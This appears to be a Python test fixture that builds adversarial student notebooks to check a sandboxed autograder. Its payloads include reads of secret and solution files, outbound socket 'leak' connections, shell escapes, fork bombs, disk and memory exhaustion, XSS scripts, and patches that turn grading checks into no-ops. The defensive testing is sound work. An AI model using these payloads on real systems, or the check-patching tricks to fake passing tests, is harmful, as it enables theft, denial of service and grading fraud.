"""Adversarial submissions: one per threat to the autograder, plus combinations.

Each case is a student of the fixture assignment ``source/00-adversarial`` (two cheap tasks,
10 autograded points: ``square`` 2 + 3, ``norm`` 5) with the status the grader must give
and the most autograded points it may give (what the honest work in it earns).
``tests/test_adversarial.py`` grades them all through ``genlab.grader.grading.grade`` (the real
pipeline and sandbox) and checks, besides status and score, that no canary file outside
the sandbox was read or written and that no connection left it.

Build a class with :func:`build_class`; the canaries (secret files to read, paths to
write, a TCP port) come from the caller, since only it knows where the grader's files are.
"""
from __future__ import annotations

import copy
import json
import shutil
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
SOURCE = HERE / "source"
TOPIC = "00-adversarial"
AUTOGRADED_MAX = 10.0
HIDDEN_MARKER = "HIDDEN-TEST-MARKER-5d1e"
CORRECT = {"square": "def square(x):\n    return x * x",
           "norm": "def norm(v):\n    return math.sqrt(sum(x * x for x in v))"}
UNINTERRUPTIBLE = ("while True:\n    try:\n        while True:\n            pass\n"
                   "    except BaseException:\n        pass")
WRONG = {"square": "def square(x):\n    return x + x",
         "norm": "def norm(v):\n    return sum(v)"}


@dataclass
class Canaries:
    """What a submission must not reach: files with secret tokens, paths it must not create."""
    secrets: dict[str, str]          # path -> token inside it
    forbidden_writes: list[str]      # paths that must not exist after grading
    port: int                        # a TCP listener on 127.0.0.1 outside the sandbox


@dataclass
class Case:
    name: str
    threat: str
    status: str                      # expected status ("a|b": either)
    max_score: float                 # most autograded points allowed
    build: Callable[[nbformat.NotebookNode, Canaries], object] = field(repr=False)
    min_score: float = 0.0           # honest work that must still be counted


def release_notebook() -> nbformat.NotebookNode:
    """The student version of the fixture (nbgrader generate_assignment, no database)."""
    from nbgrader.apps import NbGraderAPI
    from nbgrader.coursedir import CourseDirectory

    from genlab.course import nbgrader_config

    with tempfile.TemporaryDirectory() as tmp:
        config = nbgrader_config(root=tmp, source_directory=str(SOURCE), release_directory=str(Path(tmp) / "r"))
        config.GenerateAssignment.no_database = True
        config.SaveCells.enabled = False
        api = NbGraderAPI(coursedir=CourseDirectory(config=config), config=config)
        result = api.generate_assignment(TOPIC, force=True, create=False)
        if not result["success"]:
            raise RuntimeError(result.get("error") or result.get("log"))
        return nbformat.read(Path(tmp) / "r" / TOPIC / f"{TOPIC}.ipynb", as_version=4)


def _cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def answers(nb, square: str = CORRECT["square"], norm: str = CORRECT["norm"], prefix: str = "",
            norm_prefix: str = ""):
    """The release with both answer cells filled in (``prefix`` runs before square)."""
    nb = copy.deepcopy(nb)
    _cell(nb, "square").source = (prefix + "\n" if prefix else "") + square
    _cell(nb, "norm").source = (norm_prefix + "\n" if norm_prefix else "") + norm
    return nb


# honest but slow: 4 s of the kernel's CPU time, whatever the machine's load (issue 30)
SLOW_CELL = "import time as _t\n_t0 = _t.process_time()\nwhile _t.process_time() - _t0 < 4.0:\n    pass"


def _wrong(nb, prefix: str = ""):
    return answers(nb, WRONG["square"], WRONG["norm"], prefix)


def _reads(canaries: Canaries) -> str:
    paths = json.dumps(sorted(canaries.secrets))
    return (f"for _p in {paths}:\n"
            "    try:\n"
            "        print('READ-OK', _p, open(_p, 'rb').read()[:200])\n"
            "    except Exception as _e:\n"
            "        print('READ-FAILED', _p, type(_e).__name__)\n")


def _writes(canaries: Canaries) -> str:
    paths = json.dumps(canaries.forbidden_writes)
    return (f"for _p in {paths}:\n"
            "    try:\n"
            "        with open(_p, 'a') as _f:\n"
            "            _f.write('pwned')\n"
            "        print('WRITE-OK', _p)\n"
            "    except Exception as _e:\n"
            "        print('WRITE-FAILED', _p, type(_e).__name__)\n")


def _net(canaries: Canaries) -> str:
    return ("import socket\n"
            f"for _addr in [('127.0.0.1', {canaries.port}), ('1.1.1.1', 53), ('8.8.8.8', 443)]:\n"
            "    try:\n"
            "        socket.create_connection(_addr, timeout=1).send(b'leak')\n"
            "        print('NET-OK', _addr)\n"
            "    except Exception as _e:\n"
            "        print('NET-FAILED', _addr, type(_e).__name__)\n")


def _edit_meta(nb, grade_id: str, **changes):
    nb = copy.deepcopy(nb)
    _cell(nb, grade_id).metadata["nbgrader"].update(changes)
    return nb


def _raw(data: bytes):
    return ("raw", data)


def _another_assignment(nb, canaries):
    from genlab.course import assignment_path, topics

    return nbformat.read(assignment_path(topics()[0]), as_version=4)


def _delete_tests(nb, canaries):
    nb = _wrong(nb)
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")
                or c.cell_type == "markdown"]
    return nb


def _edit_tests(nb, canaries):
    nb = _wrong(nb)
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code":
            c.source = "pass  # tests? what tests?"
    return nb


def _rename_test(nb, canaries):
    nb = _wrong(nb)
    _cell(nb, "test_norm").metadata["nbgrader"]["grade_id"] = "freebie"
    _cell(nb, "freebie").source = "pass"
    return nb


def _duplicate_test(nb, canaries):
    nb = answers(nb)
    cell = copy.deepcopy(_cell(nb, "test_norm"))
    cell.metadata["nbgrader"]["points"] = 50
    nb.cells.append(cell)
    return nb


def _kernelspec(nb, canaries):
    nb = answers(nb)
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    return nb


def _move_tests_to_top(nb, canaries):
    nb = answers(nb)
    tests = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"]
    nb.cells = tests + [c for c in nb.cells if c not in tests]
    return nb


def _delete_tests_correct(nb, canaries):
    nb = answers(nb)
    nb.cells = [c for c in nb.cells if not (c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code")]
    return nb


def _html_everywhere(nb, canaries):
    nb = answers(nb, prefix="from IPython.display import HTML, Javascript, SVG, display\n"
                            "display(HTML(\"<script>alert('genlab-xss-1')</script><b id='pwn'>x</b>\"))\n"
                            "display(Javascript(\"alert('genlab-xss-2')\"))\n"
                            "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(\"genlab-xss-3\")</script></svg>'))")
    nb.cells.append(nbformat.v4.new_markdown_cell("<img src=x onerror=alert('genlab-xss-4')> "
                                                  "[click](javascript:alert('genlab-xss-5'))"))
    q = _cell(nb, "q1_answer")
    q.source = "<script>alert('genlab-xss-6')</script> Because squares are never negative."
    nb.cells.append(nbformat.v4.new_raw_cell("<script>alert('genlab-xss-7')</script>",
                                             metadata={"format": "text/html"}))
    return nb


# Replaces the import machinery of the notebook's namespace: `from genlab.checks import ...`
# in a test cell that runs there gets no-op checks (took a blank topic 01 from 0 to 90).
_FAKE_IMPORT = """import builtins as _b, types as _t
_real_import = _b.__import__
def _fake_import(name, globals=None, locals=None, fromlist=(), level=0):
    module = _real_import(name, globals, locals, fromlist, level)
    if name == 'genlab.checks':
        return _t.SimpleNamespace(**{k: (lambda *a, **kw: None) for k in dir(module) if k.startswith('check')},
                                  probe=getattr(module, 'probe', None))
    return module
_ns = dict(vars(_b))
_ns['__import__'] = _fake_import
__builtins__ = _ns"""

# What the kernel answers the grader, forged: every request gets the number 5.0.
_FAKE_ANSWERS = """import genlab.wire as _w
_w.serve = lambda user_ns, request: '{"ok": {"float": "5.0"}}'"""


def _huge(nb, canaries):
    nb = answers(nb)
    text = nbformat.writes(nb)
    return _raw(text[:-2].encode() + b" " * (21 * 2**20) + text[-2:].encode())


CASES: list[Case] = [
    # controls: honest work is graded as it should be
    Case("honest-solution", "control: the reference answers", "graded", 10,
         lambda nb, c: answers(nb), min_score=10),
    Case("honest-blank", "control: the release as handed out", "graded", 0, lambda nb, c: nb),
    Case("honest-partial", "control: one task right", "graded", 5,
         lambda nb, c: answers(nb, norm=WRONG["norm"]), min_score=5),
    Case("honest-slow-cell", "control: a correct answer whose cell computes for 4 s of CPU (limit 10 s)",
         "graded", 10, lambda nb, c: answers(nb, prefix=SLOW_CELL), min_score=10),
    # run-away code
    Case("infinite-loop", "loops forever in an answer cell (interruptible)", "timeout", 5,
         lambda nb, c: answers(nb, square="while True:\n    pass"), min_score=5),
    Case("infinite-loop-uninterruptible", "loops forever and swallows KeyboardInterrupt", "timeout", 0,
         lambda nb, c: answers(nb, prefix=UNINTERRUPTIBLE)),
    Case("slow-test", "an answer that hangs only when the hidden test calls it", "timeout", 7,
         lambda nb, c: answers(nb, square="def square(x):\n    if x.numel() == 2 and float(x[0]) == 3.0:\n"
                                          "        import time\n        time.sleep(3600)\n    return x * x"),
         min_score=7),
    # refused at once (not our limit: no memory was used): an error of the student's code
    Case("memory-huge-tensor", "allocates a 400 GB tensor", "graded", 5,
         lambda nb, c: answers(nb, prefix="_x = torch.empty(10**11)"), min_score=5),
    Case("memory-grow", "grows a list until memory runs out", "memory", 5,
         lambda nb, c: answers(nb, prefix="_hog = []\nwhile True:\n    _hog.append(bytearray(50 * 2**20))"),
         min_score=5),
    Case("memory-many-processes", "forks children that each hold memory", "memory", 0,
         lambda nb, c: answers(nb, prefix="import os, time\nfor _ in range(12):\n    if os.fork() == 0:\n"
                                              "        _b = bytearray(300 * 2**20)\n        time.sleep(60)\n"
                                              "        os._exit(0)\ntime.sleep(60)")),
    # under load the per-cell timeout may stop it before the process limit does: contained either way
    Case("fork-bomb", "forks processes without end", "crashed|memory|timeout", 0,
         lambda nb, c: answers(nb, prefix="import os\nwhile True:\n    try:\n        os.fork()\n"
                                              "    except OSError:\n        pass")),
    Case("kill-kernel-exit", "os._exit(1) in an answer cell", "crashed", 0,
         lambda nb, c: answers(nb, prefix="import os\nos._exit(1)")),
    Case("kill-kernel-signal", "the kernel kills itself with SIGKILL", "crashed", 0,
         lambda nb, c: answers(nb, prefix="import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")),
    Case("disk-fill", "writes files until the disk is full", "crashed", 0,
         lambda nb, c: answers(nb, prefix="_i = 0\nwhile True:\n    with open(f'fill{_i}.bin', 'wb') as _f:\n"
                                              "        _f.write(b'0' * (32 * 2**20))\n    _i += 1")),
    Case("big-file-and-tmp", "one huge file, then fills /tmp", "graded", 10,
         lambda nb, c: answers(nb, prefix="for _path in ('big.bin', '/tmp/big.bin'):\n    try:\n"
                                              "        with open(_path, 'wb') as _f:\n"
                                              "            for _ in range(40):\n"
                                              "                _f.write(b'0' * (16 * 2**20))\n"
                                              "    except OSError as _e:\n        print('stopped:', _e)"),
         min_score=10),
    Case("print-megabytes", "prints 30 MB of output", "graded", 10,
         lambda nb, c: answers(nb, prefix="for _ in range(300000):\n    print('x' * 100)"), min_score=10),
    # escaping the sandbox
    Case("read-outside", "reads the solutions, the gradebook, another student, a secret file", "graded", 10,
         lambda nb, c: answers(nb, prefix=_reads(c)), min_score=10),
    Case("write-outside", "writes into the output folder, the repository, another student, /tmp", "graded", 10,
         lambda nb, c: answers(nb, prefix=_writes(c)), min_score=10),
    Case("network", "connects to a port on the grader's machine and to the internet", "graded", 10,
         lambda nb, c: answers(nb, prefix=_net(c)), min_score=10),
    Case("shell-escape", "reads the solutions with an IPython shell escape", "tampered", 10,
         lambda nb, c: answers(nb, prefix="".join(f"!cat {p}\n" for p in sorted(c.secrets)))),
    # making tests pass without the work
    Case("redefine-check-helper", "defines its own check_close before the tests", "tampered", 0,
         lambda nb, c: _wrong(nb, "def check_close(*args, **kwargs):\n    return None")),
    Case("patch-genlab-checks", "genlab.checks.check_close = a no-op", "tampered", 0,
         lambda nb, c: _wrong(nb, "import genlab.checks\ngenlab.checks.check_close = lambda *a, **k: None")),
    Case("patch-torch-allclose", "torch.allclose always True", "tampered", 2,
         lambda nb, c: answers(nb, square="def square(x):\n    return x * x if x.numel() < 2 else x + x",
                               norm=WRONG["norm"], prefix="torch.allclose = lambda *a, **k: True")),
    Case("patch-builtins", "builtins.abs returns 0", "tampered", 0,
         lambda nb, c: _wrong(nb, "import builtins\nbuiltins.abs = lambda x: 0")),
    Case("patch-setattr", "setattr on genlab.checks through __import__", "tampered", 0,
         lambda nb, c: _wrong(nb, "setattr(__import__('genlab.checks', fromlist=['x']), 'check_close', "
                                  "lambda *a, **k: None)")),
    Case("patch-sys-modules", "swaps genlab.checks in sys.modules", "tampered", 0,
         lambda nb, c: _wrong(nb, "import sys, types\nsys.modules['genlab.checks'] = "
                                  "types.SimpleNamespace(check_close=lambda *a, **k: None)")),
    Case("patch-code-object", "replaces check_close.__code__", "tampered", 0,
         lambda nb, c: _wrong(nb, "def _noop(*a, **k):\n    return None\n"
                                  "check_close.__code__ = _noop.__code__")),
    Case("rebind-torch", "rebinds the name torch to a fake module", "tampered", 0,
         lambda nb, c: _wrong(nb, "class _Fake:\n    def __getattr__(self, name):\n"
                                  "        return lambda *a, **k: True\ntorch = _Fake()")),
    # the judge outside the kernel: what the student's process does to itself changes nothing
    Case("rebind-builtins-import", "rebinds __builtins__ so that test cells import no-op checks", "graded|tampered", 0,
         lambda nb, c: _wrong(nb, _FAKE_IMPORT)),
    Case("patch-checks-by-alias", "patches genlab.checks through an alias before any test imports it",
         "graded|tampered", 0,
         lambda nb, c: _wrong(nb, "import genlab.checks as _gc\n_gc._fail = lambda *a, **k: None\n"
                                  "_gc.check_close = lambda *a, **k: None")),
    Case("custom-exception-handler", "an IPython handler that swallows every exception", "graded|tampered", 0,
         lambda nb, c: _wrong(nb, "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)")),
    Case("forge-judge-answers", "replaces the kernel's server so every answer is 5.0", "graded|tampered", 0,
         lambda nb, c: _wrong(nb, _FAKE_ANSWERS)),
    Case("silence-the-judge", "deletes the kernel's server (correct answers)", "graded|tampered", 0,
         lambda nb, c: answers(nb, prefix="import genlab.wire as _w\ndel _w.serve")),
    # a status is decided from what the grader saw, not from an exception's name
    Case("fake-memory-error", "raises MemoryError itself", "graded", 5,
         lambda nb, c: answers(nb, norm_prefix="raise MemoryError('out of memory, honest')"), min_score=5),
    Case("fake-dead-kernel", "raises an exception named DeadKernelError", "graded", 5,
         lambda nb, c: answers(nb, norm_prefix="class DeadKernelError(Exception):\n    pass\n"
                                               "raise DeadKernelError('Kernel died')"), min_score=5),
    Case("fake-timeout", "raises an exception named CellTimeoutError", "graded", 5,
         lambda nb, c: answers(nb, norm_prefix="class CellTimeoutError(Exception):\n    pass\n"
                                               "raise CellTimeoutError('Cell execution timed out')"), min_score=5),
    # output the feedback page must not render
    Case("html-and-script", "HTML, JavaScript and SVG outputs, script in markdown and in a written answer",
         "graded", 10, _html_everywhere, min_score=10),
    Case("print-in-every-call", "prints 5 MB each time the tests call an answer", "graded", 10,
         lambda nb, c: answers(nb, square="def square(x):\n    print('y' * (5 * 2**20))\n    return x * x"),
         min_score=10),
    # editing what gets graded
    Case("delete-test-cells", "deletes every test cell", "tampered", 0, _delete_tests),
    Case("delete-tests-correct", "deletes every test cell of a correct notebook", "tampered", 10,
         _delete_tests_correct, min_score=10),
    Case("tests-moved-to-top", "moves every test cell before the answers", "tampered", 10,
         _move_tests_to_top, min_score=10),
    Case("edit-test-cells", "replaces the tests by `pass`", "tampered", 0, _edit_tests),
    Case("rename-test-id", "renames a test cell's grade_id", "tampered", 0, _rename_test),
    Case("duplicate-test", "copies a test cell with 50 points", "tampered", 10, _duplicate_test, min_score=10),
    Case("points-inflated", "sets a test's points to 1000", "tampered", 10,
         lambda nb, c: _edit_meta(answers(nb), "test_norm", points=1000), min_score=10),
    Case("flip-grade-flag", "turns a test cell's grade flag off", "tampered", 10,
         lambda nb, c: _edit_meta(answers(nb), "test_norm", grade=False), min_score=10),
    Case("answer-as-test", "marks an answer cell as a test worth 100 points", "tampered", 0,
         lambda nb, c: _edit_meta(_wrong(nb), "square", grade=True, points=100, solution=False)),
    Case("kernelspec-bash", "asks for another kernel", "graded", 10, _kernelspec, min_score=10),
    # files that are not this assignment's notebook
    Case("another-assignment", "submits the notebook of another topic", "invalid-notebook", 0, _another_assignment),
    Case("empty-file", "an empty file", "invalid-notebook", 0, lambda nb, c: _raw(b"")),
    Case("invalid-json", "a truncated notebook", "invalid-notebook", 0,
         lambda nb, c: _raw(nbformat.writes(answers(nb)).encode()[:500])),
    Case("not-a-notebook", "a PNG renamed to .ipynb", "invalid-notebook", 0,
         lambda nb, c: _raw(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)),
    Case("json-not-notebook", "JSON, but a list", "invalid-notebook", 0, lambda nb, c: _raw(b"[1, 2, 3]")),
    Case("huge-notebook", "a 21 MB notebook", "invalid-notebook", 0, _huge),
    Case("symlink-to-solution", "the notebook is a symbolic link to the solution", "invalid-notebook", 0,
         lambda nb, c: ("symlink", str(SOURCE / TOPIC / f"{TOPIC}.ipynb"))),
    Case("missing-notebook", "the folder holds a notebook with another name", "missing", 0,
         lambda nb, c: ("rename", answers(nb))),
    # combinations
    Case("tamper-then-loop", "patches check_close, then loops forever", "timeout", 0,
         lambda nb, c: _wrong(nb, "import genlab.checks\ngenlab.checks.check_close = lambda *a, **k: None\n"
                                  + UNINTERRUPTIBLE)),
    Case("read-then-crash", "reads secrets, then kills the kernel", "crashed", 0,
         lambda nb, c: answers(nb, prefix=_reads(c) + "import os\nos._exit(3)")),
    Case("flags-and-patch", "flips a grade flag and patches torch.allclose", "tampered", 2,
         lambda nb, c: _edit_meta(answers(nb, square="def square(x):\n    return x * x if x.numel() < 2 else x + x",
                                          norm=WRONG["norm"], prefix="torch.allclose = lambda *a, **k: True"),
                                  "test_square_hidden", grade=False)),
]


def build_class(folder: Path, canaries: Canaries, cases: list[Case] = CASES) -> None:
    """Write one student folder per case under ``folder``."""
    release = release_notebook()
    for case in cases:
        target = folder / case.name / TOPIC / f"{TOPIC}.ipynb"
        target.parent.mkdir(parents=True, exist_ok=True)
        made = case.build(copy.deepcopy(release), canaries)
        if isinstance(made, tuple) and made[0] == "raw":
            target.write_bytes(made[1])
        elif isinstance(made, tuple) and made[0] == "symlink":
            target.symlink_to(made[1])
        elif isinstance(made, tuple) and made[0] == "rename":
            nbformat.write(made[1], target.with_name("my-homework.ipynb"))
        else:
            nbformat.write(made, target)


def honest_copy(folder: Path, name: str = "other-student") -> Path:
    """A well-behaved classmate whose files the attackers try to read and overwrite."""
    target = folder / name / TOPIC / f"{TOPIC}.ipynb"
    target.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(answers(release_notebook()), target)
    shutil.copy(target, target.with_name("notes.txt"))
    return target
